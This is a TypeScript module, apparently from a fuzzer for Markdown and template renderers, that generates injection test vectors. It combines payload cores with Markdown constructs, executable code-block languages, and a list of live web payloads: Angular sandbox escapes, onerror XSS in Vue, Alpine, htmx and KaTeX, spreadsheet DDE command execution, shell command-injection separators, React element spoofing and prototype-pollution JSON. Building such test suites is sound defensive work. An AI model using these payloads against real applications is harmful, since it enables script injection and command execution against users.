import { cores, crossed, type Vector } from '../vector.ts';

/** Everywhere in Markdown where a text can stand. */
const places: readonly ((text: string) => string)[] = [
  text => `# ${text}`, text => `${text}\n===`, text => `- ${text}`, text => `1. a\n   - ${text}`, text => `- [ ] ${text}\n- [x] ${text}`, text => `> ${text}`, text => `> > - ${text}`, text => `**${text}**`, text => `*a ${text} b*`, text => `~~${text}~~`,
  text => `\`${text}\``, text => `\`\`\`\n${text}\n\`\`\``, text => `\`\`\`html\n${text}\n\`\`\``, text => `\`\`\`${text.replaceAll(/\s/g, '/')}\ncode\n\`\`\``, text => `~~~js ${text}\ncode\n~~~`, text => `    ${text}`, text => `| ${text} |\n| --- |\n| b |`, text => `| a |\n| :-: |\n| ${text} |`,
  text => `[${text}](https://example.org)`, text => `[a](https://example.org "${text.replaceAll('"', '\'')}")`, text => `[a](https://example.org/${text.replaceAll(/[\s()]/g, '')})`, text => `![${text}](https://example.org/a.png)`, text => `[a][b]\n\n[b]: https://example.org '${text.replaceAll('\'', '"')}'`,
  text => `<div>\n\n${text}\n\n</div>`, text => `<pre>\n${text}\n</pre>`, text => `<!-- ${text} -->`, text => `a  \n${text}`, text => `a\\\n${text}`, text => `\\${text}`, text => `***\n${text}\n***`, text => `[^1]\n\n[^1]: ${text}`, text => `a <b>${text}</b> c`,
];

export const markdown = crossed(places, cores, (place, core) => hit => place(core(hit)));

/** Languages of code blocks that other programs draw or run. */
const drawn = ['mermaid', 'math', 'katex', 'latex', 'dot', 'graphviz', 'plantuml', 'vega', 'vega-lite', 'chart', 'svg', 'wavedrom', 'abc', 'geojson', 'stl', 'html run', 'js run', 'jsx live', 'python exec', 'sh run', 'kroki', 'markmap', 'ditaa'];

export const drawnBlocks = crossed(drawn, [cores[0]!, ({ code }) => `click A call ${code}`], (language, inner) => hit => `\`\`\`${language}\n${inner(hit)}\n\`\`\``);

/** Expressions of templates, formulas and frameworks. */
export const templates: readonly Vector[] = [
  ({ code }) => `{{${code}}}`, ({ code }) => `{{constructor.constructor('${code}')()}}`, ({ code }) => `{{$on.constructor('${code}')()}}`, ({ code }) => `\${${code}}`, ({ code }) => `#{${code}}`, ({ code }) => `<%= ${code} %>`, ({ code }) => `{%${code}%}`, ({ code }) => `{${code}}`,
  ({ code }) => `[[${code}]]`, ({ code }) => `@(${code})`, ({ code }) => `<div v-html="'<img src=x onerror=${code}>'"></div>`, ({ code }) => `<div ng-app ng-init="${code}"></div>`, ({ code }) => `<div x-data x-init="${code}"></div>`, ({ code }) => `<div hx-on:load="${code}"></div>`, ({ code }) => `<div data-bind="html: '<img src=x onerror=${code}>'"></div>`,
  ({ code }) => `$\\href{javascript:${code}}{x}$`, ({ code }) => `$$\\htmlData{x=y}{<img src=x onerror=${code}>}$$`, ({ code }) => `\\unicode{<img src=x onerror=${code}>}`, ({ url }) => `$\\includegraphics{${url}}$`, ({ code }) => `=HYPERLINK("javascript:${code}")`, ({ code }) => `=cmd|'/c ${code}'!A1`, ({ code }) => `'; ${code}; '`, ({ code }) => `"; ${code}; //`, ({ code }) => `\`; ${code}; \``,
  ({ code }) => `$(${code})`, ({ code }) => `; ${code} #`, ({ code }) => `<div dangerouslySetInnerHTML={{ __html: '<img src=x onerror=${code}>' }} />`, ({ code }) => `{"type":"img","props":{"src":"x","onerror":"${code}"},"key":null,"ref":null,"__k":null,"__v":1}`,
  ({ code }) => `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code}>"}}}`, ({ code }) => `{"__proto__":{"onerror":"${code}","innerHTML":"<img src=x onerror=${code}>"}}`, ({ code }) => `{"constructor":{"prototype":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code}>"}}}}`, ({ code }) => `[{"href":"javascript:${code}","src":"x","onerror":"${code}"},{"href":"javascript:${code}","src":"x","onerror":"${code}"}]`,
];
